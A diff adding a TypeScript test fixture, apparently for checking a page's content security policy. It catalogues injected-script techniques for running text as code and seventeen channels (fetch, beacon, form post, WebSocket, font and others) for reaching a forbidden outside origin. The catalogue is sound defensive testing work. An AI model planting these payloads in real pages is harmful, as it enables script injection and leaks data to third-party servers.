@@ -1,0 +1,79 @@
+/**
+ * What a script tries that has got into a page. Each is the text of a statement, to be run from a file that the page loads
+ * itself: evaluation through the debugger bypasses the policy.
+ */
+
+/** Ways to run text as code. Each calls `ran` with its own name when it succeeds. */
+export const codeAttacks = {
+  eval: `eval('ran("eval")')`,
+  'new Function': `new Function('ran("new Function")')()`,
+  'a timer with text': `setTimeout('ran("a timer with text")')`,
+  'an attribute': `const button = add('button'); button.setAttribute('onclick', 'ran("an attribute")'); button.click()`,
+  'HTML with a handler': `add('div').innerHTML = '<img src="/missing.png" onerror="ran(\\'HTML with a handler\\')">'`,
+  'HTML with a frame': `add('div').innerHTML = '<iframe srcdoc="<script>parent.ran(\\'HTML with a frame\\')</scr' + 'ipt>"></iframe>'`,
+  'an inline script': `const script = document.createElement('script'); script.append('ran("an inline script")'); document.body.append(script)`,
+  'a javascript: address': `const link = add('a'); link.href = 'javascript:ran("a javascript: address")'; link.click()`,
+  'a data: module': `import('data:text/javascript,ran("a data: module")').catch(note)`,
+  'a blob: script': `const script = document.createElement('script'); script.src = URL.createObjectURL(new Blob(['ran("a blob: script")'])); document.body.append(script)`,
+  'a blob: worker': `new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))).onmessage = () => ran('a blob: worker')`,
+  'a policy of its own': `trustedTypes.createPolicy('attacker', { createHTML: (text) => text }); ran('a policy of its own')`,
+} as const satisfies Readonly<Record<string, string>>
+
+/** Ways to reach another origin. Each asks it for a path that is its own name. */
+export const wayNames = [
+  'fetch',
+  'request',
+  'image',
+  'beacon',
+  'form',
+  'style',
+  'stylesheet',
+  'ping',
+  'prefetch',
+  'socket',
+  'events',
+  'script',
+  'module',
+  'frame',
+  'object',
+  'video',
+  'font',
+] as const
+
+type Way = (typeof wayNames)[number]
+
+/** @param origin of the server that must not be reached */
+export function writeWaysOut(origin: string): Readonly<Record<Way, string>> {
+  const at = (way: Way) => JSON.stringify(`${origin}/${way}`)
+  return {
+    fetch: `fetch(${at('fetch')}, { mode: 'no-cors' }).catch(note)`,
+    request: `const request = new XMLHttpRequest(); request.open('GET', ${at('request')}); request.send()`,
+    image: `new Image().src = ${at('image')}`,
+    beacon: `navigator.sendBeacon(${at('beacon')}, 'x')`,
+    form: `const frame = document.createElement('iframe'); frame.name = 'sink'; document.body.append(frame); const form = add('form'); form.method = 'post'; form.target = 'sink'; form.action = ${at('form')}; form.submit()`,
+    style: `add('div').style.backgroundImage = 'url(${origin}/style)'`,
+    stylesheet: `const sheet = document.createElement('link'); sheet.rel = 'stylesheet'; sheet.href = ${at('stylesheet')}; document.head.append(sheet)`,
+    ping: `const link = add('a'); link.href = '#'; link.ping = ${at('ping')}; link.click()`,
+    prefetch: `const hint = document.createElement('link'); hint.rel = 'prefetch'; hint.href = ${at('prefetch')}; document.head.append(hint)`,
+    socket: `new WebSocket(${at('socket')}.replace('http', 'ws'))`,
+    events: `new EventSource(${at('events')})`,
+    script: `const script = document.createElement('script'); script.src = ${at('script')}; document.body.append(script)`,
+    module: `import(${at('module')}).catch(note)`,
+    frame: `add('iframe').src = ${at('frame')}`,
+    object: `add('object').data = ${at('object')}`,
+    video: `add('video').src = ${at('video')}`,
+    font: `const font = new FontFace('stolen', 'url(${origin}/font)'); font.load().catch(note)`,
+  }
+}
+
+/** A module that tries each, notes in `done` what succeeded, and says on the page when it has tried all. */
+export function writeAttack(attacks: readonly string[]): string {
+  return `
+globalThis.done = []
+globalThis.ran = (name) => { globalThis.done.push(name) }
+const note = () => undefined
+const add = (name) => document.body.appendChild(document.createElement(name))
+${attacks.map((attack) => `try { ${attack} } catch { note() }`).join('\n')}
+document.documentElement.dataset.attacked = 'true'
+`
+}
